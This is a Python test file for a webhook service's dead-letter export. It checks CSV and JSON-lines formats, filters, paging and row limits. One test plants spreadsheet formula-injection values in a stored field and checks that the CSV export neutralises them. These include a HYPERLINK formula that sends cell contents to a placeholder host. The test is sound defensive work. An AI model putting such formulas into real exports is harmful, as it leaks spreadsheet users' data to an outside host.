"""The export of dead letters: complete, limited in size, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import msgspec
import pytest

from hookline.model.dead import DeadFilter
from hookline.store import Page
from tests.dashboard.client import Client, Shown
from tests.dashboard.dead_letters import bury, letter
from tests.support import factory
from tests.support.scene import Scene

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def table(answer: Shown) -> list[dict[str, str]]:
    assert answer.status == 200, answer
    assert answer.body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(answer.body.decode("utf-8-sig"), newline="")))


def objects(answer: Shown) -> list[dict[str, object]]:
    assert answer.status == 200, answer
    return [msgspec.json.decode(line) for line in answer.body.splitlines()]


async def test_a_table_for_spreadsheets(operator: Client, scene: Scene) -> None:
    endpoint = await scene.endpoint()
    dead = await bury(scene, event_type="order.paid")
    found = await letter(scene, dead)
    answer = await operator.get("/dead-letters/export?format=csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="dead-letters-')
    assert answer.headers["content-disposition"].endswith('.csv"')
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"
    (row,) = table(answer)
    assert (row["id"], row["state"], row["application"]) == (dead, "dead", scene.app.id)
    assert (row["endpoint"], row["url"], row["message"]) == (endpoint.id, endpoint.url, found.message_id)
    assert (row["event_type"], row["reason"], row["detail"]) == ("order.paid", "permanent_failure", found.detail)
    assert (row["attempts"], row["sent"], row["last_status"]) == ("1", "1", "422")
    assert row["died_at"].startswith(f"{found.died_at:%Y-%m-%d %H:%M:%S}.")
    assert (row["resolved_at"], row["note"]) == ("", "")


async def test_lines_of_json_are_what_the_api_gives(operator: Client, scene: Scene) -> None:
    await scene.endpoint()
    dead = await bury(scene)
    await scene.store.repair.resolve(DeadFilter(ids=(int(dead[3:]),)), FORMULA)
    answer = await operator.get("/dead-letters/export?format=jsonl&state=all")
    assert answer.headers["content-type"].startswith("application/x-ndjson")
    (found,) = objects(answer)
    assert (found["id"], found["note"], found["reason"]) == (dead, FORMULA, "permanent_failure")
    assert {"appId", "endpointUrl", "messageId", "diedAt", "resolvedAt"} <= set(found)


async def test_texts_of_tenants_are_no_spreadsheet_formulas(operator: Client, scene: Scene) -> None:
    await scene.endpoint()
    for text in (FORMULA, "+1", "-1", "@x", "\t=1", "\r=1", 'a","=1', "a;=1", "x\n=1", "ünïcödé ✓"):
        dead = await bury(scene)
        await scene.raw.execute("UPDATE dead_letter SET detail = $1 WHERE id = $2", text, int(dead[3:]))
    answer = await operator.get("/dead-letters/export")
    rows = table(answer)
    assert len(rows) == 10
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), row
    details = [row["detail"] for row in rows][::-1]
    assert details[0] == f"'{FORMULA}".replace('"http', '"http')
    assert details[-4:] == ['a","\'=1', "a;'=1", "x\n'=1", "ünïcödé ✓"]


async def test_the_export_uses_the_filters(operator: Client, scene: Scene) -> None:
    await scene.endpoint()
    one, two = await bury(scene, event_type="a"), await bury(scene, event_type="b")
    await scene.store.repair.resolve(DeadFilter(ids=(int(one[3:]),)), "done")
    for query, expected in {"": [two], "state=all": [two, one], "type=a&state=all": [one], "type=c": []}.items():
        assert [row["id"] for row in table(await operator.get(f"/dead-letters/export?{query}"))] == expected
    for wrong in ("format=exe", "reason=x", "after=1", "state=x"):
        assert (await operator.get(f"/dead-letters/export?{wrong}")).status == 422, wrong


async def test_pages_are_read_one_after_another(
    operator: Client, scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("hookline.dashboard.pages.dead_letters.export.STEP", 3)
    await scene.endpoint()
    await scene.send(7)
    await scene.record(*(factory.dead(job) for job in await scene.claim_all()))
    expected = [f"dl_{each.id}" for each in await scene.store.repair.dead_letters(DeadFilter(), Page())]
    assert [row["id"] for row in table(await operator.get("/dead-letters/export"))] == expected
    assert [row["id"] for row in objects(await operator.get("/dead-letters/export?format=jsonl"))] == expected


async def test_an_incomplete_export_says_so_and_where_to_continue(
    operator: Client, scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("hookline.dashboard.pages.dead_letters.export.STEP", 2)
    monkeypatch.setattr("hookline.dashboard.pages.dead_letters.export.MAX_ROWS", 4)
    await scene.endpoint()
    await scene.send(5)
    await scene.record(*(factory.dead(job) for job in await scene.claim_all()))
    *rows, last = table(await operator.get("/dead-letters/export"))
    assert len(rows) == 4
    assert last["id"].startswith("There are more rows than these 4: continue with after=")
    *lines, end = objects(await operator.get("/dead-letters/export?format=jsonl"))
    assert (len(lines), end["more"]) == (4, True)
    (rest,) = objects(await operator.get(f"/dead-letters/export?format=jsonl&after={end['after']}"))
    assert rest["id"] not in {line["id"] for line in lines}
    await scene.store.repair.replay(DeadFilter(ids=(int(str(rest["id"])[3:]),)))
    assert len(objects(await operator.get("/dead-letters/export?format=jsonl"))) == 4
